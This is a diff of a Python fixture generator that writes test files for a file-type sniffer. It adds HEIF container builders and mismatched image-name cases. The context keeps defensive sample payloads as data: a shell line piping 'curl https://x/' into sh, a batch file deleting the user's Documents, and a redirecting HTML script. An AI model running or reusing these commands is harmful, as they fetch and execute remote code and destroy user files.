@@ -4,7 +4,11 @@ sniff.c) and for claimed-name findings on real payloads (filename.c),
 checked through tests/expect/types.tsv: executables, scripts and active
 content under harmless names (FORCEDENTRY's PDF named .gif, ImageTragick's
 MVG named .jpg, an EXE named photo.png), image-to-image mismatches that are
-rebuilt with a note, and RTLO / double-extension names.
+rebuilt with a note (a PNG named favicon.ico, a JPEG named sticker.webp),
+HEIF-family files under each other's names (a Nokia-style .heif whose brand
+is heic), RTLO / double-extension names, and the payloads that claimed names
+only a file system minds (con.jpg, "photo.jpg. ", a 300-byte name) are
+checked against (tests/test_filename.c checks their display names).
 
 Usage: gen_types.py OUTDIR    (writes OUTDIR/types/*)
 """
@@ -30,6 +34,20 @@ HTML = b"<!DOCTYPE html>\n<html><body><script>location='https://x/'</script></bo
 SHEBANG = b"#!/bin/sh\ncurl https://x/ | sh\n"
 BATCH = b"@echo off\r\ndel /q %USERPROFILE%\\Documents\\*\r\n"
 TEXT = b"Minutes of the meeting.\nNothing to report.\n"
+
+
+def box(kind, payload):
+    return struct.pack(">I", 8 + len(payload)) + kind + payload
+
+
+def heif(major, compatible):
+    """A minimal ISO-BMFF image file: ftyp (major brand, minor version,
+    compatible brands) and a meta box whose handler is 'pict', the start of
+    every HEIF/AVIF still image.  sniff.c reads the ftyp brands only."""
+    ftyp = box(b"ftyp", major + bytes(4) + b"".join(compatible))
+    hdlr = box(b"hdlr", bytes(4) + bytes(4) + b"pict" + bytes(12) + b"\0")
+    pitm = box(b"pitm", bytes(4) + struct.pack(">H", 1))
+    return ftyp + box(b"meta", bytes(4) + hdlr + pitm)
 
 
 def image():
@@ -68,6 +86,19 @@ def main():
         "random.bin": bytes(rng.getrandbits(8) for _ in range(4096)),
         "empty.txt": b"",
         "photo.webp": encoded("WEBP", lossless=True),
+        # images we rebuild under another image type's name
+        "favicon.ico": png,
+        "sticker.webp": encoded("JPEG", quality=90),
+        "photo.jpg": encoded("JPEG", quality=90),
+        "anim.gif": encoded("GIF"),
+        # non-image claims for images, and a PDF under an image name
+        "png_as_svg.svg": png,
+        "pdf_as_ico.ico": pdf,
+        # HEIF family: Nokia's HEIF files and phone photos carry the heic
+        # brand under .heif, mif1 under .heic, and AVIF shares the container
+        "nokia.heif": heif(b"heic", [b"mif1", b"heic"]),
+        "mif1_as.heic": heif(b"mif1", [b"mif1", b"heic"]),
+        "avif_as.heif": heif(b"avif", [b"avif", b"mif1", b"miaf"]),
     }
     for name, data in files.items():
         with open(os.path.join(d, name), "wb") as f:
